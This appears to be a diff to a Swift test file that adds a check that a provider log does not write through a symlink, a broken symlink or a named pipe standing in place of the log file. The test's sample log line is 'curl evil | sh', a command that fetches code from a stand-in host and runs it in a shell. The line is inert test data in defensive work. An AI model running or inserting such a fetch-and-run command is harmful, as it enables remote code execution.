@@ -1,4 +1,5 @@
 import AppIntentsCore
+import Glibc
 import OrderedCollections
 import SystemPackage
 import TestFixtures
@@ -58,6 +59,21 @@ import Testing
     try folder.makeFolder("no")
     log.take(Array("two\n".utf8))
     #expect(try folder.text("no/where.log") == "two\n")
+  }
+
+  @Test func `neither a link nor a pipe in the place of a log is written`() throws {
+    let folder = try TestFolder()
+    try folder.write("mine\n", to: "victim")
+    #expect(symlink(folder["victim"].string, folder["link.log"].string) == 0)
+    #expect(symlink(folder["new"].string, folder["broken.log"].string) == 0)
+    #expect(mkfifo(folder["pipe.log"].string, 0o600) == 0)
+    for name in ["link.log", "broken.log", "pipe.log"] {
+      let log = ProviderLog(at: folder[name])
+      log.take(Array("curl evil | sh\n".utf8))
+      #expect(log.recent == ["curl evil | sh"])
+    }
+    #expect(try folder.text("victim") == "mine\n")
+    #expect(!folder.exists("new"))
   }
 
   @Test func `standard error is the log, without secrets`() async throws {
